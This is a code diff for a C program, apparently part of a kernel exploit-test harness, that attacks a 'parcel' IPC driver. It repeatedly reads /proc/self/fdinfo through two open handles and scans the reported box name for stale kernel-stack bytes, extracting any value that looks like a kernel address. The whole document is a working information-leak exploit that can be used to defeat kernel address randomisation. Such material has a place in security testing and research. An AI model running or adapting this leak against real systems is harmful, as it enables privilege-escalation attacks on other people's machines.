@@ -2,7 +2,9 @@
 /*
  * Select a box, and ask /proc which one it is: the driver knows the name by its place on the stack
  * of a call that has long returned. What lies there now, while the answer is being written, is the
- * business of the kernel, and it is shown as the name.
+ * business of the kernel, and it is shown as the name, up to its first zero.
+ *
+ * What that is depends on how deep the calls are, so this asks in several ways.
  */
 #define _GNU_SOURCE
 #include <fcntl.h>
@@ -13,54 +15,74 @@
 
 #define NAME		"letters"
 #define KERNEL_SPACE	0xffff800000000000ULL
+#define TRIES		16
 
-/* Where the name begins in @text, and how long it is */
-static char *shown_name(int file, char *text, size_t size, size_t *length)
+enum { AT_ONCE, IN_PARTS, WAYS };
+
+/* What /proc shows as the name */
+static size_t shown_name(int file, int way, char *name, size_t size)
 {
 	static const char before[] = "parcel-box:\t", after[] = "\nparcel-rights:";
-	char path[64], *begin, *end;
-	ssize_t n;
+	char path[64], text[8192], *begin, *end;
+	ssize_t part = 0, rest;
 	int info;
 
 	snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", file);
 	info = open(path, O_RDONLY);
-	n = read(info, text, size);
+	if (way == IN_PARTS)
+		part = read(info, text, strlen(before));
+	rest = pread(info, text + part, sizeof(text) - part, part);
 	close(info);
-	begin = n > 0 ? memmem(text, n, before, strlen(before)) : NULL;
+	if (part < 0 || rest <= 0)
+		could_not("cannot read %s", path);
+	begin = memmem(text, part + rest, before, strlen(before));
 	if (!begin)
 		could_not("%s does not tell the box", path);
 	begin += strlen(before);
-	end = memmem(begin, text + n - begin, after, strlen(after));
-	if (!end)
+	end = memmem(begin, text + part + rest - begin, after, strlen(after));
+	if (!end || (size_t)(end - begin) > size)
 		could_not("%s does not tell the rights", path);
-	*length = end - begin;
-	return begin;
+	memcpy(name, begin, end - begin);
+	return end - begin;
 }
 
 int main(int argc, char **argv)
 {
 	struct parcel_select select = { };
-	static char text[8192];
+	char name[4096];
+	size_t length, longest = 0, at;
 	__u64 word, address = 0;
-	size_t length, i;
-	char *name;
-	int file;
+	int files[2], i, wrong = 0;
+	__u32 box;
 
 	attack_begin(argc, argv);
-	file = device_open();
-	select.handle = named_box(file, NAME, 0600);
-	must("select", device_call(file, PARCEL_IOC_SELECT, &select));
-	name = shown_name(file, text, sizeof(text), &length);
-	must("unlink", box_unlink(file, select.handle));
-	if (length == strlen(NAME) && !memcmp(name, NAME, length))
-		refused("it says \"%s\", which is the name of the box", NAME);
+	files[0] = device_open();
+	files[1] = device_open();
+	box = named_box(files[0], NAME, 0600);
+	select.handle = box;
+	must("select", device_call(files[0], PARCEL_IOC_SELECT, &select));
+	must("open", box_open(files[1], NAME, PARCEL_RIGHT_RECEIVE, &select.handle));
+	must("select", device_call(files[1], PARCEL_IOC_SELECT, &select));
 
-	for (i = 0; i + sizeof(word) <= length && !address; i += sizeof(word)) {
-		memcpy(&word, name + i, sizeof(word));
-		address = word >= KERNEL_SPACE ? word : 0;
+	for (i = 0; i < TRIES && !address; i++) {
+		length = shown_name(files[i % 2], i / 2 % WAYS, name, sizeof(name));
+		if (length == strlen(NAME) && !memcmp(name, NAME, length))
+			continue;
+		wrong++;
+		longest = length > longest ? length : longest;
+		for (at = 0; at + sizeof(word) <= length && !address; at += sizeof(word)) {
+			memcpy(&word, name + at, sizeof(word));
+			address = word >= KERNEL_SPACE ? word : 0;
+		}
 	}
+	must("unlink", box_unlink(files[0], box));
 	if (address)
 		achieved("leaks", "%zu bytes of the kernel's stack, among them an address: %#llx",
 			 length, (unsigned long long)address);
-	achieved("leaks", "%zu bytes of the kernel's stack, where the name should be", length);
+	if (longest)
+		achieved("leaks", "%zu bytes of the kernel's stack, where the name should be",
+			 longest);
+	if (wrong)
+		could_not("what is shown is no name, and nothing else");
+	refused("it says \"%s\", which is the name of the box", NAME);
 }
